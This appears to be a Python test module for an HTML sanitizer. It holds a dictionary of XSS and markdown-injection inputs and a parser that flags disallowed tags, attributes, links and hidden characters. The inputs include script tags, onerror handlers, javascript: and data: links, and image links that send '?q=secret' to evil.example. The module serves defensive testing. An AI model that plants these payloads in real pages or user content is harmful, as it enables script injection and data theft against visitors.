"""Inputs that try to get out of the answer, and what may be found in ours."""

import re
from html.parser import HTMLParser

CASES = {
    "script": "<script>alert(1)</script>",
    "script in words": "so <b>bold</b> <script src=//evil.example></script>",
    "onerror": "<img src=x onerror=alert(1)>",
    "svg": "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "style": "<style>*{display:none}</style><p style='background:url(//evil.example)'>",
    "form": '<form action="https://evil.example"><input name=key><button>Go</button></form>',
    "details": "</details></section><script>alert(1)</script>",
    "end of script": "</script><script>alert(1)</script>",
    "comment": "<!-- x --><!DOCTYPE x><?php ?><![CDATA[x]]>",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "javascript link": "[x](javascript:alert(1))",
    "javascript link, entity": "[x](javascript&colon;alert(1)) [y](&#106;avascript:f)",
    "javascript link, blanks": "[x](<java\tscript:alert(1)>) [y]( JaVaScRiPt:alert(1) )",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "vbscript link": "[x](vbscript:x)",
    "file link": "[x](file:///etc/passwd) [y](/api/kernels) [z](//evil.example)",
    "autolink": "<javascript:alert(1)> <data:text/html,x> <https://ok.example/a>",
    "autolink in link": "[a <https://ok.example/a> b](https://evil.example) [<x:y>](x:z)",
    "reference link": "[x][r] ![y][r]\n\n[r]: javascript:alert(1)",
    "reference image": "![x][r]\n\n[r]: https://evil.example/?q=secret",
    "image": "![alt](https://evil.example/?q=secret)",
    "image in link": "[![alt](https://evil.example/i)](https://other.example)",
    "image, quotes": '![" onerror="alert(1)](https://evil.example/"onerror="x)',
    "svg image": "![x](data:image/svg+xml;base64,PHN2Zz4=) ![y](data:text/html,x)",
    "link title": '[x](https://ok.example "onmouseover=alert(1)\\" x=")',
    "link quotes": "[x](https://ok.example/\"onclick='alert(1))",
    "broken host": "[x](http://[) [y](http://) [z](http://a]b/)",
    "html in a table": "|a|\n|-|\n| <script>x</script> |\n| [x](javascript:x) |\n| `<b>\\|` |",
    "html in code": "`<script>` ``<img onerror=x>``\n\n    <script>\n\n```\n<script>\n```",
    "fence info": '```"><script>alert(1)</script>\nx\n```',
    "code that ends early": "`````\n```\n<script>\n`````\n\n`` ` <script> ``",
    "nested brackets": "[[[x](javascript:alert(1))](https://a.example)]((((",
    "brackets, then code": "[a`](javascript:alert(1)) `",
    "formula with html": "$<img src=x onerror=alert(1)>$ and $$</span><script>$$",
    "formula with link": r"$\href{javascript:alert(1)}{x}$ \(\url{x}\) \[\require{html}\]",
    "formula with code": "$`$ and `<img src=x onerror=alert(1)>`",
    "formula with fence": "$$\n~~~\n$$\n\n```\n~~~\n<script>\n```",
    "formula with markdown link": r"$[a](javascript:alert(1))$",
    "formula in words": r"$ \href{javascript:alert(1)}{x} $ \begin{a}\href{x}{y}",
    "environment": "\\begin{align}\n\\href{javascript:alert(1)}{x}\n\\end{align}",
    "definitions": r"$\def\frac{x}$ $\newcommand{\a}{b}$ $\let\a\href$",
    "bidi": "abc\u202edef\u2066x &#x202E; `\u202e`",
    "escapes": "\x1b[31mred\x1b]0;title\x07 &#27;[2J \x9b31m `\x1b[2J`",
    "nul and surrogates": "a\x00b\ud800c \udfff [x](https://a.example/\ud800)",
    "raw end of list": "- <script>\n  - ![x](https://evil.example)\n\n  </details>",
    "headings": "# <script>\n\n<script>\n===\n\n> <script>\n> ---",
}

TAGS = {"p", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote", "em", "strong", "s"}
TAGS |= {"table", "thead", "tbody", "tr", "th", "td", "pre", "code", "a", "br", "hr", "img"}
TAGS |= {"div", "span", "section", "details", "summary", "footer"}
ATTRIBUTES = {"style", "href", "rel", "target", "src", "alt", "start", "title", "role"}
ATTRIBUTES |= {"aria-label"}
HREF = re.compile(r"(https?://|mailto:)")
SRC = re.compile(r"data:image/(png|jpeg|gif|webp);base64,[A-Za-z0-9+/=]+")
STYLE = re.compile(r"[a-z0-9#.,:;%() -]*")
HIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


class _Reader(HTMLParser):
    def __init__(self):
        super().__init__()
        self.found, self.open = [], []

    def handle_starttag(self, tag, attrs):
        if tag not in TAGS:
            self.found.append(f"tag {tag}")
        if tag not in ("br", "hr", "img"):
            self.open.append(tag)
        for name, value in attrs:
            allowed = {"href": HREF, "src": SRC, "style": STYLE}.get(name)
            if name not in ATTRIBUTES:
                self.found.append(f"attribute {name}")
            elif allowed and not (allowed.match if name == "href" else allowed.fullmatch)(
                value
            ):
                self.found.append(f"{name} {value}")
            elif name == "style" and ("url" in value or "var(" in value):
                self.found.append(f"style {value}")

    def handle_endtag(self, tag):
        if not self.open or self.open.pop() != tag:
            self.found.append(f"stray end of {tag}")

    def handle_comment(self, data):
        self.found.append(f"comment {data}")

    def handle_decl(self, decl):
        self.found.append(f"declaration {decl}")

    def unknown_decl(self, data):
        self.found.append(f"declaration {data}")

    def handle_pi(self, data):
        self.found.append(f"instruction {data}")


def findings(html):
    """Return everything in the HTML that is not ours."""
    reader = _Reader()
    reader.feed(html)
    reader.close()
    hidden = [f"hidden {sign!a}" for sign in HIDDEN.findall(html)]
    return reader.found + hidden + [f"{tag} left open" for tag in reader.open]
